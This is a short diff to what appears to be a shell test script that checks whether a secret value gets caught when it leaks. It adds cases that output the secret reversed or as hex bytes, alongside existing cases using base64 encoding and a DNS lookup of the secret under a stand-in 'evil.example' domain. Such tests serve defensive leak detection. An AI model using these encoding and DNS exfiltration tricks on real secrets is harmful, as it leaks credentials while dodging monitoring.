@@ -57,6 +57,11 @@ body()
 	caught 'in the output' output
 	run "printf x%s \"$k\" | base64 -w 0 >&2"
 	caught 'on standard error, in base64' output
+	run "echo \"$k\" | rev"
+	caught 'in the output, reversed' output
+	run "printf %s \"$k\" | od -An -v -tx1 | tr -d '\\n' |
+		sed 's/ /\\\\x/g'"
+	caught 'in the output, in bytes as a shell quotes them' output
 
 	run "getent hosts \"$k.evil.example\" >/dev/null; true"
 	caught 'in a name' name
